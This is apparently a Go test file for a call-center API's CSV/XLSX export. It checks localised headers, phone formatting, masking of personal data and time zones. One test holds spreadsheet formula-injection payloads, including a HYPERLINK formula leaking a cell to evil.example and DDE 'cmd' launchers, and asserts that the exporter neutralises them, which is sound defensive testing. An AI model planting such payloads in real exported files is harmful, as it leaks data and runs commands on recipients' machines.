package api

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http/httptest"
	"reflect"
	"strings"
	"testing"

	"github.com/bankcc/callcenter/importer"
	"github.com/bankcc/callcenter/store"
	"github.com/xuri/excelize/v2"
)

// exportRows posts an export with optional extra headers and reads the
// file (csv or xlsx) back as rows.
func (h *harness) exportRows(token string, req map[string]any, header map[string]string) [][]string {
	h.t.Helper()
	body, _ := json.Marshal(req)
	r := httptest.NewRequest("POST", "/api/v1/exports", bytes.NewReader(body))
	r.Header.Set("Content-Type", "application/json")
	r.Header.Set("Authorization", "Bearer "+token)
	for k, v := range header {
		r.Header.Set(k, v)
	}
	rec := httptest.NewRecorder()
	h.h.ServeHTTP(rec, r)
	if rec.Code != 200 {
		h.t.Fatalf("export %v: %d %s", req, rec.Code, rec.Body.String())
	}
	if req["format"] == "csv" {
		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(rec.Body.String(), "\uFEFF"))).ReadAll()
		if err != nil {
			h.t.Fatal(err)
		}
		return rows
	}
	f, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		h.t.Fatal(err)
	}
	rows, _ := f.GetRows("Sheet1")
	return rows
}

// Exports are for Chinese users by default: Chinese headers and status
// names, phones as dialed; English and E.164 on request; masking stays.
func TestExportForChineseUsers(t *testing.T) {
	h := newHarness(t)
	admin := h.tokens[store.RoleAdmin]
	camp := h.campaign("导出中文")
	h.ingest(camp.ID,
		map[string]any{"name": "张伟", "phone": "13800138000", "alt_phone": "010-12345678", "id_number": "110101199003071233"},
		map[string]any{"name": "李娜", "phone": "+86 139 0013 9000"})
	h.do("POST", "/api/v1/dnc", admin, map[string]any{"phone": "13900139000", "reason": "投诉"}, 201, nil)
	fields := []string{"name", "phone", "alt_phone", "id_number", "status", "block_reason"}
	req := map[string]any{"campaign_id": camp.ID, "fields": fields}

	zh := [][]string{{"姓名", "联系电话", "备用电话", "身份证号码", "状态", "屏蔽原因"},
		{"张伟", "13800138000", "010-12345678", "110101199003071233", "待拨打"},
		{"李娜", "13900139000", "", "", "黑名单", "黑名单"}}
	if got := h.exportRows(admin, req, nil); !reflect.DeepEqual(got, zh) {
		t.Fatalf("default export = %q\nwant %q", got, zh)
	}
	// The Chinese headers are ones an import maps back to the same fields.
	m, err := importer.NewMapping(zh[0], nil)
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range []importer.Field{importer.FieldName, importer.FieldPhone, importer.FieldAltPhone, importer.FieldIDNumber} {
		if m.Columns[i].Field != want {
			t.Errorf("header %q maps to %s on import, want %s", zh[0][i], m.Columns[i].Field, want)
		}
	}

	en := [][]string{{"Name", "Phone", "Alternate phone", "ID number", "Status", "Block reason"},
		{"张伟", "+8613800138000", "+861012345678", "110101199003071233", "Pending", ""},
		{"李娜", "+8613900139000", "", "", "Blacklisted", "Do-not-call list"}}
	req["lang"], req["phone_format"], req["format"] = "en", "e164", "csv"
	if got := h.exportRows(admin, req, nil); !reflect.DeepEqual(got, en) {
		t.Fatalf("English E.164 export = %q\nwant %q", got, en)
	}
	delete(req, "lang")
	if got := h.exportRows(admin, req, map[string]string{"Accept-Language": "en-US,en;q=0.9"}); got[0][0] != "Name" || got[1][4] != "Pending" {
		t.Fatalf("Accept-Language en: %q", got)
	}
	if got := h.exportRows(admin, req, map[string]string{"Accept-Language": "zh-CN,zh;q=0.9,en;q=0.8"}); got[0][0] != "姓名" {
		t.Fatalf("Accept-Language zh: %q", got)
	}

	// Without pii_view, numbers are masked in either phone format.
	sup := h.users[store.RoleSupervisor]
	h.do("PATCH", fmt.Sprintf("/api/v1/users/%d", sup.ID), admin, map[string]any{"permissions": []string{"export"}}, 200, nil)
	var login loginResponse
	h.do("POST", "/api/v1/auth/login", "", loginRequest{sup.Username, testPassword}, 200, &login)
	delete(req, "phone_format")
	if got := h.exportRows(login.Token, req, nil)[1]; got[1] != "138****8000" || got[2] != "010-****5678" || got[3] != "110101********1233" {
		t.Fatalf("masked national row %q", got)
	}
	req["phone_format"] = "e164"
	if got := h.exportRows(login.Token, req, nil)[1]; got[1] != "138****8000" || got[3] != "110101********1233" {
		t.Fatalf("masked E.164 row %q", got)
	}

	// Times are written as Excel reads them, in China's time zone by default.
	var l list[contactView]
	h.do("GET", fmt.Sprintf("/api/v1/campaigns/%d/contacts", camp.ID), admin, nil, 200, &l)
	created := l.Items[0].CreatedAt
	for zone, want := range map[string]string{"": created.In(shanghai).Format("2006-01-02 15:04:05"), "UTC": created.UTC().Format("2006-01-02 15:04:05")} {
		r := map[string]any{"campaign_id": camp.ID, "fields": []string{"created_at"}, "time_zone": zone}
		if got := h.exportRows(admin, r, nil)[1][0]; got != want {
			t.Errorf("created_at in zone %q = %q, want %q", zone, got, want)
		}
	}

	for _, bad := range []struct{ key, value string }{{"lang", "fr"}, {"phone_format", "intl"}, {"time_zone", "Mars/Olympus"}} {
		r := map[string]any{"campaign_id": camp.ID, "fields": fields, bad.key: bad.value}
		rec := h.raw("POST", "/api/v1/exports", admin, r)
		if rec.Code != 400 || errorOf(t, rec).Details[0].Field != bad.key {
			t.Errorf("%s=%q: %d %s", bad.key, bad.value, rec.Code, rec.Body.String())
		}
	}
}

// Cells that a spreadsheet would run as a formula are neutralised in both
// formats; phone numbers and negative amounts stay numbers.
func TestExportNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	admin := h.tokens[store.RoleAdmin]
	camp := h.campaign("公式注入")
	evil := map[string]string{"a": `=HYPERLINK("http://evil.example/?"&A1,"点我")`, "b": "+cmd|' /C calc'!A0", "c": "-2+3+cmd|' /C calc'!A0",
		"d": "@SUM(1+1)", "e": "\t=1+1", "f": "-1,200.50", "g": "+8613800138000"}
	h.ingest(camp.ID, map[string]any{"name": "=1+1", "phone": "13800138000", "attributes": evil})
	req := map[string]any{"campaign_id": camp.ID, "phone_format": "e164",
		"fields":  []string{"name", "phone", "attributes.a", "attributes.b", "attributes.c", "attributes.d", "attributes.e", "attributes.f", "attributes.g"},
		"headers": []string{"=姓名", "", "", "", "", "", "", "", ""}}
	want := []string{"'=1+1", "+8613800138000", "'" + evil["a"], "'" + evil["b"], "'" + evil["c"], "'" + evil["d"], "'" + evil["e"], "-1,200.50", "+8613800138000"}
	for _, format := range []string{"csv", "xlsx"} {
		req["format"] = format
		rows := h.exportRows(admin, req, nil)
		if rows[0][0] != "'=姓名" || !reflect.DeepEqual(rows[1], want) {
			t.Errorf("%s: header %q, row %q\nwant %q", format, rows[0][0], rows[1], want)
		}
	}
}
